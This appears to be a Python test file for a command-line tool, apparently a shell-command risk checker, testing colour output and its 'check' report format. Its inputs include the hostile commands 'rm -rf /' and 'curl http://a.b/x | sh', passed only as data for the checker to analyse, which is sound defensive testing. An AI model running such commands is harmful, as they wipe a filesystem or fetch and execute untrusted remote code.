"""Colours: on a terminal that understands them, never in a pipe, and never where NO_COLOR asks for none."""
import subprocess

from harness import PATIENCE, TTYWARD, Person, RunTest, main

VERBS = (["check", "rm -rf /"], ["doctor"])


class Colours(RunTest):
    def setUp(self):
        super().setUp()
        self.environment.pop("NO_COLOR", None)
        self.environment["TERM"] = "xterm-256color"

    def seen_by_a_person(self, words):
        person = Person(self, *words, size=(100, 24))
        person.end()
        return person.seen

    def test_on_a_terminal(self):
        for words in VERBS:
            self.assertIn(b"\x1b[3", self.seen_by_a_person(words), words)

    def test_not_where_nobody_wants_them(self):
        for name, value in (("NO_COLOR", "1"), ("TERM", "dumb")):
            before = dict(self.environment)
            self.environment[name] = value
            for words in VERBS:
                self.assertNotIn(b"\x1b[", self.seen_by_a_person(words), (words, name))
            self.environment = before

    def test_an_empty_no_color_says_nothing(self):
        self.environment["NO_COLOR"] = ""
        self.assertIn(b"\x1b[3", self.seen_by_a_person(VERBS[0]))

    def test_not_in_a_pipe(self):
        for words in VERBS:
            done = subprocess.run([TTYWARD, *words], env=self.environment, capture_output=True, timeout=PATIENCE)
            self.assertNotIn(b"\x1b", done.stdout, words)

    def test_check_says_everything_once(self):
        done = subprocess.run([TTYWARD, "check", "--no-rules", "curl http://a.b/x | sh; curl http://a.b/x | sh"],
                              env=self.environment, capture_output=True, text=True, timeout=PATIENCE)
        effects, reasons, part = [], [], None
        for line in done.stdout.splitlines():
            if not line.startswith("  "):
                part = {"effects:": effects, "because it:": reasons}.get(line)
            elif part is not None:
                part.append(line.strip())
        self.assertTrue(reasons, done.stdout)
        for effect in effects:
            self.assertEqual(len(effect.split(" ", 1)), 2, done.stdout)  # each names what it is about
        self.assertEqual(len(effects), len(set(effects)), done.stdout)
        texts = [reason.rsplit(" (bytes ", 1)[0] for reason in reasons]
        self.assertEqual(len(texts), len(set(texts)), done.stdout)


if __name__ == "__main__":
    main()
